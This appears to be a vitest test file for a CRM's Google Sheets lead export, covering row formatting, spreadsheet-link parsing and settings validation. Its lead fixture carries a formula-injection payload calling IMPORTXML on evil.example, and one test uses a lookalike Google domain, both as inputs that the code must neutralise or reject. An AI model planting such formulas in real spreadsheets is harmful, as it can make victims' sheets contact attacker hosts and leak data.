import { describe, expect, it } from 'vitest';
import type { LeadItem } from '../crm/repository';
import type { OrganizationView } from '../organizations/contracts';
import { leadCaptureSettings, spreadsheetIdOf } from './contracts';
import { leadRow } from './lead-sheet';

const org = {
  id: '01J0RG00000000000000000000',
  name: 'Brightside',
  timeZone: 'America/Chicago',
} as OrganizationView;
const lead = {
  id: '01J1EAD0000000000000000000',
  name: 'Ada Lovelace',
  email: 'ada@example.com',
  phone: null,
  message: '=IMPORTXML("https://evil.example")',
  serviceWanted: 'Leak detection',
  source: 'embed',
  createdAt: '2026-07-01T15:30:00.000Z',
} as LeadItem;

describe('the Lead Capture sheet row', () => {
  it("lists the lead on the organization's clock, with the link to it, every cell as text", () => {
    expect(leadRow(org, lead)).toEqual([
      '2026-07-01 10:30',
      'Ada Lovelace',
      'ada@example.com',
      '',
      'Leak detection',
      '=IMPORTXML("https://evil.example")',
      'Website form',
      'https://portico.test/leads/01J1EAD0000000000000000000',
    ]);
  });

  it('reads the spreadsheet id from a Google Sheets link only', () => {
    expect(spreadsheetIdOf('https://docs.google.com/spreadsheets/d/1AbC-d_9/edit#gid=0')).toBe('1AbC-d_9');
    expect(spreadsheetIdOf('https://docs.google.com/spreadsheets/d/1AbC-d_9')).toBe('1AbC-d_9');
    expect(spreadsheetIdOf('https://docs.google.com/document/d/1AbC/edit')).toBeNull();
    expect(spreadsheetIdOf('https://docs.google.com.evil.example/spreadsheets/d/1AbC')).toBeNull();
  });

  it('refuses another link for the sheet, and keeps settings saved before ranges existed valid', () => {
    const settings = (googleSheetsRow: unknown) =>
      leadCaptureSettings.safeParse({ enabled: true, googleSheetsRow });
    expect(settings({ enabled: true, spreadsheetUrl: 'https://example.com/sheet' }).success).toBe(false);
    expect(settings({ enabled: true, spreadsheetUrl: null }).data?.googleSheetsRow).toEqual({
      enabled: true,
      spreadsheetUrl: null,
    });
    expect(
      settings({
        enabled: true,
        spreadsheetUrl: 'https://docs.google.com/spreadsheets/d/1AbC/edit',
        range: ' Leads!A:H ',
      }).data?.googleSheetsRow.range,
    ).toBe('Leads!A:H');
    expect(settings({ enabled: true, spreadsheetUrl: null, range: 'Leads\u0007' }).success).toBe(false);
  });
});
